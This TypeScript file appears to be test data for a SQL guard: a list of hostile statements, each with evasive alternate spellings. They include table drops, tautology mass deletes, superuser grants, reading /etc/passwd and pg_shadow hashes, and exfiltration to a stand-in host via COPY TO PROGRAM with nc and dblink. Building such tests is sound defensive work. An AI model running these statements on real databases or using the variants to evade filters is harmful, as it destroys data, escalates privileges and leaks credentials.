/** A statement that somebody may want to get past the rules. */
export interface BaseStatement {
  readonly text: string;
  readonly spellings?: readonly string[];
}

export const BASE_STATEMENTS: readonly BaseStatement[] = [
  {
    text: "DROP TABLE users",
    spellings: [
      "DROP TABLE IF EXISTS users CASCADE",
      'DROP TABLE "users"',
      "DROP TABLE a, public.users",
      "DROP TABLE `users`",
      "DROP TABLE [users]",
    ],
  },
  { text: "TRUNCATE orders", spellings: ["TRUNCATE TABLE ONLY orders RESTART IDENTITY", "TRUNCATE TABLE `orders`"] },
  {
    text: "DELETE FROM orders",
    spellings: [
      "DELETE FROM orders WHERE true",
      "DELETE FROM orders WHERE 1=1",
      "DELETE FROM orders WHERE id=id",
      "DELETE FROM orders WHERE id IS NULL OR id IS NOT NULL",
      "DELETE FROM orders WHERE id > 5 OR 'a'='a'",
      "DELETE FROM orders WHERE name LIKE '%'",
      "DELETE FROM ONLY orders AS o USING users",
      "DELETE FROM `orders`",
    ],
  },
  {
    text: "UPDATE users SET role = 'admin'",
    spellings: [
      "UPDATE users SET (role) = ROW('admin')",
      "UPDATE users SET role = 'admin' WHERE 2 > 1",
      "UPDATE ONLY public.users u SET role = 'admin' FROM orders",
    ],
  },
  {
    text: "UPDATE orders SET total = 0 WHERE id = 7",
    spellings: [
      "MERGE INTO orders USING (SELECT 7 AS id) s ON orders.id = s.id WHEN MATCHED THEN UPDATE SET total = 0",
    ],
  },
  {
    text: "INSERT INTO users (role) VALUES ('admin')",
    spellings: ["INSERT INTO users (role) SELECT 'admin'", "INSERT INTO users DEFAULT VALUES"],
  },
  {
    text: "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
    spellings: ["ALTER TABLE ONLY users NO FORCE ROW LEVEL SECURITY"],
  },
  {
    text: "GRANT ALL ON users TO public",
    spellings: ["GRANT ALL PRIVILEGES ON TABLE users TO PUBLIC WITH GRANT OPTION", "GRANT admin TO agent"],
  },
  {
    text: "CREATE ROLE x SUPERUSER",
    spellings: ["CREATE USER x WITH SUPERUSER", "CREATE GROUP x SUPERUSER", "ALTER USER x SUPERUSER"],
  },
  {
    text: "SELECT pg_read_file('/etc/passwd')",
    spellings: [
      "SELECT pg_catalog.pg_read_file('/etc/passwd')",
      "SELECT * FROM pg_read_file('/etc/passwd') f",
      "SELECT 1 WHERE length(pg_read_binary_file('/etc/passwd')) > 0",
      "SELECT \"pg_read_file\"('/etc/passwd')",
    ],
  },
  {
    text: "COPY users TO PROGRAM 'nc evil.example 80'",
    spellings: [
      "COPY (SELECT * FROM users) TO PROGRAM 'nc evil.example 80'",
      "COPY users TO '/tmp/x'",
      "COPY users FROM PROGRAM 'x' WITH (FORMAT csv)",
    ],
  },
  {
    text: "SELECT * FROM dblink('host=evil.example', 'select 1') AS t(a int)",
    spellings: ["SELECT public.dblink_exec('host=evil.example', 'x')", "SELECT dblink_connect('host=evil.example')"],
  },
  {
    text: "SELECT pg_sleep(3600)",
    spellings: [
      "SELECT 1 FROM pg_sleep(3600)",
      "SELECT CASE WHEN true THEN pg_sleep(3600) END",
      "SELECT 1 WHERE EXISTS (SELECT pg_sleep_for('1 hour'))",
    ],
  },
  {
    text: "SELECT passwd FROM pg_shadow",
    spellings: [
      "SELECT rolpassword FROM pg_authid",
      "SELECT s FROM pg_catalog.pg_shadow s",
      "TABLE pg_shadow",
      "SELECT (SELECT passwd FROM pg_shadow LIMIT 1)",
    ],
  },
  {
    text: "SELECT name FROM users WHERE name = '' OR '1'='1'",
    spellings: [
      "SELECT name FROM users WHERE name = '' OR 1",
      "SELECT name FROM users WHERE name = '' OR true",
      "SELECT name FROM users WHERE name = '' OR name = name",
      "SELECT name FROM users WHERE name = '' OR 2 BETWEEN 1 AND 3",
    ],
  },
];
